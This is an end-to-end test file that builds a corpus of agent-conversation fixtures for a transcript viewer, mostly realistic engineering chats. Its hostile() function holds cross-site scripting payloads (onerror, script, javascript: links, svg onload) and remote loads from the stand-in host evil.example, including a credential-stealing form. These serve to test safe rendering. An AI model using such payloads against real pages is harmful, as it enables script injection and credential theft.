// The end-to-end tests' index: the repository's real agent fixtures (Claude Code, Codex, pi; on request
// one real fixture of each other agent too), plus a few conversations in Throughline's JSONL import format — a realistic week of work in two
// workspaces, so suggestions, filters and screenshots have something to show — and one hostile
// transcript that tries everything a web page could try.
import fs from 'node:fs';
import path from 'node:path';
import type { SourceKind } from '../../src/shared/types.js';
import { AGENT_FIXTURES } from '../helpers/agent-fixtures.js';

export const LEDGER = '/home/ada/code/ledger';
export const ATLAS = '/home/ada/code/atlas-web';
export const HOSTILE_TITLE = 'Summarise the vendor status page';
export const EVIL_HOST = 'evil.example';

type Line = Record<string, unknown>;
const DAY = 86_400_000;

function conversation(id: string, workspace: string, title: string, daysAgo: number, turns: [string, string][], extra: Line[] = []): Line[] {
  const start = Date.now() - daysAgo * DAY;
  const lines: Line[] = [{ type: 'conversation', id, workspace, title, created: new Date(start).toISOString() }];
  turns.forEach(([user, assistant], i) => {
    lines.push({ type: 'message', role: 'user', text: user, ts: new Date(start + i * 240_000).toISOString() });
    lines.push({ type: 'message', role: 'assistant', text: assistant, ts: new Date(start + i * 240_000 + 60_000).toISOString() });
  });
  return [...lines, ...extra.map((l, i) => ({ ts: new Date(start + (turns.length + i) * 240_000).toISOString(), ...l }))];
}

const DEMO: Line[][] = [
  conversation('ledger-fts', LEDGER, 'Move ledger search to SQLite FTS5 with triggers', 0.2, [
    ['Our ledger search does LIKE scans over 2M rows. Can we move it to SQLite FTS5 without rewriting the writer?', 'Yes. Use an **external-content** FTS5 table over `entries` and keep it in sync with three triggers (insert, delete, update). The writer stays as it is:\n\n```sql\nCREATE VIRTUAL TABLE entries_fts USING fts5(text, content=entries, content_rowid=id);\n```'],
    ['The update trigger fails with "SQL logic error" on the backfill migration.', 'External-content tables need the old row deleted with the special `delete` command before the new one is inserted. In the migration, run `INSERT INTO entries_fts(entries_fts) VALUES(\'rebuild\')` once instead of replaying every row.'],
    ['That worked. Migration 7 now takes 40 s on the big fixture.', 'Wrap it in one transaction and set `PRAGMA synchronous = OFF` for the rebuild only; it drops to about 6 s here.'],
  ], [
    { type: 'message', role: 'assistant', kind: 'tool_call', text: '{"command":"npm test -- migrations"}', tool: { name: 'bash', status: 'ok' } },
    { type: 'message', role: 'tool', text: '✓ 42 passed (6.1s)', tool: { name: 'bash', status: 'ok' } },
    { type: 'compaction', text: 'Moved ledger search to FTS5 (external content, triggers); migration 7 rebuilds in one transaction.' },
    { type: 'message', role: 'user', text: 'Now make the search box use it with highlighted snippets.' },
    { type: 'message', role: 'assistant', text: 'Done: `search()` narrows with FTS first, sorts and limits, then computes `snippet()` for the page only.' },
  ]),
  conversation('ledger-ci', LEDGER, 'Flaky CI: payouts test times out on the runner', 1.3, [
    ['payouts.test.ts times out on CI about one run in five, never locally.', 'The runner has two cores and the test starts four workers. It waits on a fixed 2 s timer for the settlement queue; under load that is not enough. Await the queue\'s drain event instead of the timer.'],
    ['Still flaky after that.', 'The second cause is the shared tmp dir: two workers use the same SQLite file. Give each worker its own directory from `mkdtemp`.'],
  ]),
  conversation('ledger-webhook', LEDGER, 'Add a rate limiter to the payments webhook endpoint', 3, [
    ['Stripe retries hammer /webhooks/payments during incidents. Add a rate limiter per source IP.', 'A token bucket per IP in memory is enough for one instance: 20 tokens, refill 5 per second. Answer 429 with Retry-After when empty.'],
    ['What about several instances behind the proxy?', 'Then the bucket must live in Redis, keyed by the client IP from X-Forwarded-For, trusting only the proxy\'s own hop.'],
  ]),
  conversation('ledger-rounding', LEDGER, 'Reconcile rounding errors in currency conversion', 9, [
    ['Monthly reconciliation is off by a few cents for EUR→JPY.', 'JPY has no minor unit. Convert with integer minor units and round half-even once, at the end, not per line item.'],
  ]),
  conversation('atlas-darkmode', ATLAS, 'Dark mode toggle flickers on first paint', 0.6, [
    ['The dark theme flashes white for a frame on reload.', 'The theme is applied after React mounts. Set `color-scheme` and the theme class from a tiny blocking script in index.html, before the stylesheet.'],
  ]),
  conversation('atlas-ratelimit', ATLAS, 'Rate limiting the search API with a token bucket', 2, [
    ['Search API needs a rate limiter; bots are scraping it.', 'Same token bucket approach as the ledger webhook: 60 requests per minute per API key, with a separate, smaller bucket for anonymous IPs.'],
  ]),
  conversation('atlas-proxy', ATLAS, 'Rate limiter answers 429 too eagerly behind the proxy', 5, [
    ['After deploying, every user gets 429 at once.', 'All requests appear to come from the proxy\'s IP, so they share one bucket. Read the client IP from X-Forwarded-For (only from trusted hops) before keying the limiter.'],
  ]),
  conversation('atlas-vite', ATLAS, 'Upgrade Vite and fix the broken HMR overlay', 16, [
    ['After the Vite upgrade the error overlay is blank.', 'The overlay moved to a custom element; the CSP blocked its inline styles in dev. Allow them in dev only.'],
  ]),
];

/** A long session (300 entries), for paging older and newer entries in around a revealed one. */
export const LONG_TITLE = 'Port the importer to streaming reads';
function long(): Line[] {
  const turns: [string, string][] = [];
  for (let i = 0; i < 150; i++) {
    turns.push([`Step ${i}: next file in the importer port (batch ${i}).`, `Ported batch ${i}; ${i % 10 === 0 ? 'checkpoint reached, tests green.' : 'moving on.'}`]);
  }
  return conversation('long-port', LEDGER, LONG_TITLE, 20, turns);
}

/**
 * A long working session: 600 turns, 1,200 entries, replies with markdown, lists and code blocks in
 * several languages — for the transcript's virtual list, its scroll frames, find and highlighting.
 * Its title is long, as first messages used as titles often are.
 */
export const BIG_TITLE = 'Refactor the payment ledger into event-sourced accounts without downtime, one module at a time';
export const BIG_TURNS = 600;
function big(): Line[] {
  const code = (i: number): string => {
    switch (i % 3) {
      case 0:
        return `\`\`\`ts\nexport async function migrateAccount${i}(db: Db, id: number): Promise<void> {\n  const events = await db.events.since(id, ${i});\n  for (const e of events) apply(e); // replay in order\n}\n\`\`\``;
      case 1:
        return `\`\`\`sql\nSELECT account_id, sum(amount) AS balance\nFROM ledger_events WHERE batch = ${i}\nGROUP BY account_id;\n\`\`\``;
      default:
        return `\`\`\`bash\nnpm test -- ledger/module-${i} && git commit -am "module ${i}"\n\`\`\``;
    }
  };
  const turns: [string, string][] = [];
  for (let i = 0; i < BIG_TURNS; i++) {
    const reply =
      i % 4 === 0
        ? `Module ${i} moves to **event sourcing**:\n\n- the writer appends an \`AccountEvent\`\n- the projection rebuilds balances\n- the old table stays until the cutover\n\n${code(i)}\n\nThe reconciliation check passes for batch ${i}.`
        : i % 4 === 1
          ? `Done with step ${i}. ${'The projection keeps up with the writer; lag stays under a second. '.repeat(1 + (i % 5))}`
          : i % 4 === 2
            ? `${code(i)}\n\nRun that for batch ${i}; expect the reconciliation to match to the cent.`
            : `Step ${i}: checked the idempotency keys again, no duplicates. Next is the ${['refund', 'payout', 'fee', 'chargeback'][i % 4]} path.`;
    turns.push([`Next module, ${i}: keep the ledger reconciliation exact.`, reply]);
  }
  return conversation('big-ledger', LEDGER, BIG_TITLE, 4, turns);
}

/** A transcript that tries every trick; rendered, it must stay text. */
function hostile(): Line[] {
  const huge = `${'A'.repeat(200)} ${'x'.repeat(1024 * 1024)}`;
  const payload = [
    'Here is what the status page says:',
    '<img src=x onerror="window.__pwned=1;alert(1)">',
    '<script>window.__pwned=2;alert(2)</script>',
    '[Open the dashboard](javascript:window.__pwned=3;alert(3))',
    '<a href="javascript:alert(4)">raw link</a> and <a href=" JaVaScRiPt:alert(5)">spaced</a>',
    '![tracking pixel](https://evil.example/pixel.png)',
    '<img src="https://evil.example/remote.png" alt="remote">',
    '<iframe src="https://evil.example/frame"></iframe>',
    '<svg onload="alert(6)"><circle r="4"/></svg>',
    '<style>body{background:url(https://evil.example/bg.png)}</style>',
    '<form action="https://evil.example/steal"><button>Log in</button></form>',
    '<video src="https://evil.example/v.mp4" poster="https://evil.example/poster.png"></video>',
    '<a href="https://example.org/docs">a normal link</a>',
    '<details open ontoggle="alert(7)"><summary>toggle</summary>x</details>',
  ].join('\n\n');
  return conversation('hostile-page', ATLAS, HOSTILE_TITLE, 0.1, [
    ['Summarise the vendor status page <img src=x onerror=alert(8)> for me', payload],
    ['And the raw log line?', huge],
  ]);
}

/**
 * Copies the fixtures and writes the JSONL conversations into `dir`; returns the sources to index.
 * `allAgents`: the other agents' fixtures too (Gemini CLI, OpenCode, Copilot CLI, Cursor, Droid, Aider).
 */
export function buildCorpus(repoRoot: string, dir: string, allAgents = false): { kind: SourceKind; root: string }[] {
  const kinds = ['claude-code', 'codex', 'pi'] as const;
  for (const kind of kinds) fs.cpSync(path.join(repoRoot, 'test/fixtures', kind), path.join(dir, kind), { recursive: true });
  const jsonl = path.join(dir, 'jsonl');
  fs.mkdirSync(jsonl, { recursive: true });
  const write = (name: string, lines: Line[]) => fs.writeFileSync(path.join(jsonl, name), lines.map((l) => JSON.stringify(l)).join('\n') + '\n');
  DEMO.forEach((lines, i) => write(`demo-${i}.jsonl`, lines));
  write('hostile.jsonl', hostile());
  write('long.jsonl', long());
  write('big.jsonl', big());
  // One unreadable line (skipped and counted, shown under Index status) in an otherwise good file.
  const broken = conversation('atlas-notes', ATLAS, 'Release notes for 2.4', 12, [['Draft the 2.4 release notes.', 'Drafted: search is faster, dark mode no longer flickers.']]);
  fs.writeFileSync(path.join(jsonl, 'notes.jsonl'), [...broken.slice(0, 2).map((l) => JSON.stringify(l)), '{"type":"message","role":"assistant","text":"cut off mid-wri', ...broken.slice(2).map((l) => JSON.stringify(l))].join('\n') + '\n');
  const sources: { kind: SourceKind; root: string }[] = [...kinds.map((kind) => ({ kind, root: path.join(dir, kind) })), { kind: 'jsonl', root: jsonl }];
  if (!allAgents) return sources;
  for (const [kind, rel] of Object.entries(AGENT_FIXTURES)) {
    if ((kinds as readonly string[]).includes(kind)) continue;
    // The fixture keeps its own name (OpenCode's root must be a folder named storage).
    const root = path.join(dir, kind, path.basename(rel));
    fs.cpSync(path.join(repoRoot, 'test/fixtures', rel), root, { recursive: true });
    sources.push({ kind: kind as SourceKind, root });
  }
  return sources;
}
